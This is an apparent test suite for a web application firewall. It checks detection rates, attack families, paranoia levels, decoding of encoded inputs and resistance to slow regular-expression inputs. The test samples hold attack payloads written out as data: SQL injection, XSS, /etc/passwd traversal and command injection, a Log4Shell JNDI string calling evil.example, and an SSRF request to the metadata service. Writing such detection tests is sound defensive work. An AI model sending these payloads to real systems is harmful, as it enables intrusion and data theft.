/**
 * The built-in WAF rule set as a pure function: detection and false positives on the corpora in
 * test/fixtures/waf (attacks.json, benign.json), families, paranoia ordering, the decoded forms
 * of each encoding, no throw on garbage, and linear-time behaviour on adversarial 100 KiB inputs.
 */
import test from 'ava';
import { readFileSync } from 'node:fs';
import { compileBuiltinRules, type BuiltinMatch, type Paranoia, type WafRequest } from '../../edge/waf/builtin/index.js';
import { decodedForms, MAX_DECODE } from '../../edge/waf/decode.js';
import { mulberry32 } from '../../bench/random.js';

interface Entry {
  name: string;
  method: string;
  path: string;
  query?: string;
  headers?: Record<string, string>;
  rawHeaders?: string[];
  body?: string;
  bodyBase64?: string;
  expect?: string;
}

function load(file: string): Entry[] {
  return JSON.parse(readFileSync(new URL(`../../../test/fixtures/waf/${file}`, import.meta.url), 'utf8')) as Entry[];
}

function toRequest(e: Entry): WafRequest {
  const headers = e.headers ?? {};
  const rawHeaders = e.rawHeaders ?? Object.entries(headers).flatMap(([k, v]) => [k, v]);
  const body = e.bodyBase64 !== undefined ? Buffer.from(e.bodyBase64, 'base64') : e.body !== undefined ? Buffer.from(e.body, 'utf8') : undefined;
  return { method: e.method, path: e.path, query: e.query ?? '', headers, rawHeaders, body };
}

const attacks = load('attacks.json');
const benign = load('benign.json');
const sets = { 1: compileBuiltinRules(1), 2: compileBuiltinRules(2), 3: compileBuiltinRules(3) } as const;
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';

function get(query: string, extra: Partial<WafRequest> = {}): WafRequest {
  const headers = { host: 'www.example.com', 'user-agent': CHROME, accept: '*/*' };
  return { method: 'GET', path: '/search', query, headers, rawHeaders: Object.entries(headers).flat(), body: undefined, ...extra };
}

test('corpora are large enough', (t) => {
  t.true(attacks.length >= 300, `${attacks.length} attacks`);
  t.true(benign.length >= 300, `${benign.length} ordinary requests`);
  t.true(attacks.every((a) => typeof a.expect === 'string'));
});

test('paranoia 1 detects at least 95% of the attacks', (t) => {
  const missed = attacks.filter((a) => sets[1].inspect(toRequest(a)) === undefined);
  const rate = 1 - missed.length / attacks.length;
  t.true(rate >= 0.95, `detected ${(rate * 100).toFixed(1)}%; missed:\n${missed.map((a) => a.name).join('\n')}`);
  t.log(`paranoia 1: ${attacks.length - missed.length}/${attacks.length} attacks detected`);
});

test('paranoia 1 has no false positives on ordinary traffic', (t) => {
  const flagged = benign.map((b) => [b, sets[1].inspect(toRequest(b))] as const).filter(([, m]) => m !== undefined);
  t.is(flagged.length, 0, flagged.map(([b, m]) => `${b.name} => ${m!.ruleId} ${m!.part} ${JSON.stringify(m!.matched)}`).join('\n'));
});

test('attacks are reported under their family', (t) => {
  const wrong: string[] = [];
  for (const a of attacks) {
    const m = sets[1].inspect(toRequest(a));
    if (m !== undefined && m.family !== a.expect) wrong.push(`${a.name}: expected ${a.expect}, got ${m.ruleId}`);
  }
  t.true(wrong.length <= attacks.length * 0.05, wrong.join('\n'));
  const sample: Array<[WafRequest, BuiltinMatch['family']]> = [
    [get("id=1'+OR+'1'%3D'1"), 'sqli'],
    [get('q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), 'xss'],
    [get('file=..%2f..%2f..%2fetc%2fpasswd'), 'lfi'],
    [get('ip=127.0.0.1%3Bcat+%2Fetc%2Fpasswd'), 'rce'],
    [get('page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php'), 'php'],
    [get('', { headers: { host: 'h', 'user-agent': '${jndi:ldap://evil.example/a}' }, rawHeaders: ['Host', 'h', 'User-Agent', '${jndi:ldap://evil.example/a}'] }), 'java'],
    [get('url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F'), 'ssrf'],
    [get('file=report.pdf%00.jpg'), 'nullbyte'],
    [get('', { rawHeaders: ['Host', 'h', 'Content-Length', '5', 'Transfer-Encoding', 'chunked'], headers: { host: 'h', 'content-length': '5', 'transfer-encoding': 'chunked' }, method: 'POST' }), 'protocol'],
    [get('', { method: 'TRACE' }), 'method'],
    [get('', { headers: { host: 'h', 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, rawHeaders: ['Host', 'h', 'User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'] }), 'scanner'],
  ];
  for (const [request, family] of sample) {
    const m = sets[1].inspect(request);
    t.is(m?.family, family, `${request.method} ${request.path}?${request.query} => ${m?.ruleId}`);
    t.true(m!.ruleId.startsWith(`${family}-`), m!.ruleId);
    t.true(m!.matched.length <= 120);
    t.true(sets[1].ruleIds.includes(m!.ruleId), `${m!.ruleId} listed in ruleIds`);
  }
});

test('ordinary REST methods and bodies pass; disallowed and unknown methods do not', (t) => {
  for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) t.is(sets[1].inspect(get('', { method })), undefined, method);
  for (const method of ['TRACE', 'TRACK', 'CONNECT', 'DEBUG', 'PROPFIND', 'get', 'G T', '']) t.is(sets[1].inspect(get('', { method }))?.family, 'method', method);
});

test('stricter paranoia levels find everything paranoia 1 finds', (t) => {
  const ids = new Set(sets[1].ruleIds);
  for (const p of [2, 3] as const) {
    for (const id of ids) t.true(sets[p].ruleIds.includes(id), `p${p} lists ${id}`);
    const lost = attacks.filter((a) => sets[1].inspect(toRequest(a)) !== undefined && sets[p].inspect(toRequest(a)) === undefined);
    t.deepEqual(lost.map((a) => a.name), [], `paranoia ${p} lost attacks paranoia 1 finds`);
    const p1Only = benign.filter((b) => sets[1].inspect(toRequest(b)) !== undefined && sets[p].inspect(toRequest(b)) === undefined);
    t.deepEqual(p1Only.map((b) => b.name), []);
  }
  for (const p of [1, 2, 3] as const) {
    const detected = attacks.filter((a) => sets[p].inspect(toRequest(a)) !== undefined).length;
    const fps = benign.filter((b) => sets[p].inspect(toRequest(b)) !== undefined).length;
    t.log(`paranoia ${p}: ${detected}/${attacks.length} attacks, ${fps}/${benign.length} ordinary requests flagged`);
  }
  t.is(sets[2].paranoia, 2);
  t.throws(() => compileBuiltinRules(4 as Paranoia));
});

test('decodedForms: nothing to decode gives the value alone', (t) => {
  t.deepEqual(decodedForms('/assets/app.3f2a.js'), ['/assets/app.3f2a.js']);
  t.deepEqual(decodedForms('plain value, with spaces'), ['plain value, with spaces']);
  t.deepEqual(decodedForms('a+b'), ['a+b'], "'+' is literal unless asked");
  t.true(decodedForms('a+b', true).includes('a b'), "'+' as space for query and form values");
});

test('decodedForms: every encoding', (t) => {
  const has = (input: string, expected: string, plus = false) => t.true(decodedForms(input, plus).includes(expected), `${input} -> ${JSON.stringify(decodedForms(input, plus))}`);
  t.is(decodedForms('%3Cscript%3E')[0], '%3Cscript%3E', 'raw form first');
  has('%3Cscript%3E', '<script>'); // percent
  has('%253Cscript%253E', '<script>'); // double percent
  has('%25252e%25252e%25252f', '../'); // triple percent
  has('%2e%2e%2f', '../');
  has('..%c0%af', '../'); // overlong 2-byte UTF-8
  has('%c0%ae%c0%ae%c0%af', '../');
  has('%e0%80%ae%e0%80%ae/', '../'); // overlong 3-byte UTF-8
  has('%c1%9c', '\\'); // IIS overlong backslash
  has('%u002e%u002e%u2215', '..\u2215'); // %uXXXX
  has('%C3%A9t%C3%A9', 'été'); // UTF-8
  has('100%', '100%'); // invalid escapes stay literal
  has('%ff%fe', '\u00ff\u00fe'); // invalid UTF-8 read as Latin-1
  has('&lt;script&gt;', '<script>'); // named entities
  has('&quot;x&quot; &apos;y&apos; &amp;', `"x" 'y' &`);
  has('&LT;b&GT;', '<b>'); // any case
  has('&#60;&#0000062;', '<>'); // decimal, leading zeros
  has('&#x3c;&#X3E;', '<>'); // hex
  has('&#60&#x3e', '<>'); // without ';'
  has('%26lt%3Bscript%26gt%3B', '<script>'); // percent then entities
  has('\\u003cscript\\u003e', '<script>'); // JS escapes
  has('\\x3cscript\\x3e', '<script>');
  has('＜script＞', '<script>'); // NFKC fullwidth
  has('ｓｅｌｅｃｔ', 'select');
  has('%EF%BC%9Cscript%EF%BC%9E', '<script>'); // fullwidth, percent-encoded
  has('1/**/union/**/select', '1 union select'); // SQL comments
  has('/*!50000union*/ select', ' union  select'); // MySQL executable comment keeps its content
  has('..\\..\\windows', '../../windows'); // backslash to slash
  has('1+union+select', '1 union select', true); // '+' as space
  t.false(decodedForms('a%2bb', true).includes('a b'), "an encoded '+' is not a space");
});

test('decodedForms: bounded in count and length', (t) => {
  const huge = '%253C'.repeat(40_000);
  const forms = decodedForms(huge, true);
  t.true(forms.length <= 4, `${forms.length} forms`);
  t.is(forms[0], huge);
  for (const f of forms.slice(1)) t.true(f.length <= MAX_DECODE);
  for (const v of ['%', '%%', '%u', '%uZZZZ', '%c0', '&#', '&#x;', '&#99999999999;', '\\u', '\\ud800', '\ud800%41', '/*', '*/', '/*!']) t.notThrows(() => decodedForms(v, true), JSON.stringify(v));
});

test('never throws on garbage', (t) => {
  const rand = mulberry32(42);
  const pieces = ['%', '%c0', '%u', '&#', '\\u', '\ud800', '\udfff', '\u0000', '\r\n', '${', '{{', "'", '"', '<', '../', '/*', '\\', '+', '=', '&', ';', 'é', '😀', '\uffff', 'select', '://', '[', ']'];
  const garbage = (n: number) => {
    let s = '';
    for (let i = 0; i < n; i++) s += rand() < 0.5 ? pieces[Math.floor(rand() * pieces.length)] : String.fromCharCode(Math.floor(rand() * 0x10000));
    return s;
  };
  const types = ['application/json', 'application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data; boundary=x', 'application/xml', 'image/png', '', 'application/json; charset=utf-8'];
  for (let i = 0; i < 300; i++) {
    const bytes = Buffer.alloc(Math.floor(rand() * 400));
    for (let j = 0; j < bytes.length; j++) bytes[j] = Math.floor(rand() * 256);
    const body = rand() < 0.5 ? bytes : Buffer.from(garbage(50));
    const headers: Record<string, string> = { host: garbage(5), 'user-agent': garbage(30), cookie: garbage(40), 'content-type': types[i % types.length]!, 'x-any': garbage(20) };
    const request: WafRequest = { method: rand() < 0.8 ? 'POST' : garbage(4), path: '/' + garbage(20), query: garbage(30), headers, rawHeaders: Object.entries(headers).flat(), body };
    for (const p of [1, 2, 3] as const) t.notThrows(() => sets[p].inspect(request));
  }
  const odd = [
    { method: 'GET', path: '', query: '', headers: {}, rawHeaders: [], body: undefined },
    { method: 'GET', path: '/', query: '', headers: { cookie: ['a=1', 'b=2'] as unknown as string, 'set-cookie': ['x'] }, rawHeaders: ['Cookie', 'a=1'], body: Buffer.alloc(0) },
    { method: 'POST', path: '/', query: '', headers: { 'content-type': 'application/json' }, rawHeaders: ['X'], body: Buffer.from('{"a":'.repeat(5000)) },
    { method: 'POST', path: '/', query: '', headers: { 'content-type': 'application/json' }, rawHeaders: [], body: Buffer.from('['.repeat(20000) + ']'.repeat(20000)) },
    { method: undefined, path: undefined, query: undefined, headers: undefined, rawHeaders: undefined, body: undefined },
  ] as unknown as WafRequest[];
  for (const request of odd) for (const p of [1, 2, 3] as const) t.notThrows(() => sets[p].inspect(request));
});

test('adversarial 100 KiB inputs are inspected without throwing, within the test timeout (a backtracking expression would hang here)', (t) => {
  const N = 100 * 1024;
  const units = ["'", '"', '<', 'a', '%25', '../', '/*', ' ', '<a ', ' onx', 'javascript:', '${', '${${', '{{', '1 or ', 'union select ', '\\', '&#', '%u', '%c0',
    'http://', '[::', '0x', ';', '|', '`', '$(', '/etc/', '<!ENTITY ', 'O:1:"', 'sleep(', '-- ', '=', '(', '.', '//', '\r\n', '%0a', '&', '+', 'é', '\ud800', '\u0000',
    'cat ', '{cat,', '/???', '() {', '#{', '%{', 'class.', 'rO0AB', 'php://', '<?', '<%=', '__', 'data:', 'ldap://', '/bin/', '\u2215'];
  const parts = (v: string): WafRequest[] => [
    get('q=' + v),
    get('', { path: '/' + v }),
    get(v),
    get('', { headers: { host: 'h', 'user-agent': CHROME, cookie: 'a=' + v }, rawHeaders: ['Host', 'h', 'User-Agent', CHROME] }),
    get('', { headers: { host: 'h', 'user-agent': v, 'x-a': v }, rawHeaders: ['Host', 'h', 'User-Agent', v, 'X-A', v] }),
    get('', { method: 'POST', headers: { host: 'h', 'content-type': 'application/json' }, rawHeaders: ['Host', 'h'], body: Buffer.from(JSON.stringify({ a: v })) }),
    get('', { method: 'POST', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, rawHeaders: ['Host', 'h'], body: Buffer.from('a=' + v) }),
    get('', { method: 'POST', headers: { host: 'h', 'content-type': 'text/plain' }, rawHeaders: ['Host', 'h'], body: Buffer.from(v) }),
  ];
  let runs = 0;
  for (const unit of units) {
    const v = unit.repeat(Math.ceil(N / unit.length)).slice(0, N);
    for (const request of parts(v)) {
      for (const p of [1, 3] as const) {
        t.notThrows(() => sets[p].inspect(request));
        runs++;
      }
    }
    // The same run with an end that makes a pattern fail late (backtracking shows here).
    for (const request of parts(v + 'x')) {
      t.notThrows(() => sets[1].inspect(request));
      runs++;
    }
  }
  t.log(`${runs} inspections of 100 KiB inputs`);
});

test('matches name the part and keep the matched text short', (t) => {
  const cookie = sets[1].inspect(get('', { headers: { host: 'h', 'user-agent': CHROME, cookie: 'theme=dark; session=' + encodeURIComponent("x' OR '1'='1") }, rawHeaders: ['Host', 'h', 'User-Agent', CHROME] }));
  t.is(cookie?.part, 'cookie:session');
  const json = sets[1].inspect(get('', { method: 'PUT', headers: { host: 'h', 'content-type': 'application/json' }, rawHeaders: ['Host', 'h'], body: Buffer.from(JSON.stringify({ user: { bio: '<script>alert(1)</script>' } })) }));
  t.is(json?.part, 'body:user.bio');
  const form = sets[1].inspect(get('', { method: 'POST', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, rawHeaders: ['Host', 'h'], body: Buffer.from('a=1&comment=%3Cscript%3E') }));
  t.is(form?.part, 'body:comment');
  const query = sets[1].inspect(get('page=1&id=' + encodeURIComponent('1 UNION SELECT password FROM users') + 'x'.repeat(500)));
  t.is(query?.part, 'query:id');
  t.true(query!.matched.length <= 120);
  t.is(sets[1].inspect(get('', { path: '/..%2f..%2fetc/passwd' }))?.part, 'path');
});

test('a literal backslash is judged raw as well as normalised: `w\\hoami` is stopped like `w%5choami`, an ordinary Windows path is not', (t) => {
  for (const query of ['c=;w\\hoami', 'c=|dir c:\\', 'c=;un\\ame -a', 'c=;w%5choami']) t.is(sets[1].inspect(get(query))?.family, 'rce', query);
  for (const query of ['path=C:\\Users\\me\\file.txt', 'name=O\\Brien']) t.is(sets[1].inspect(get(query)), undefined, query);
});
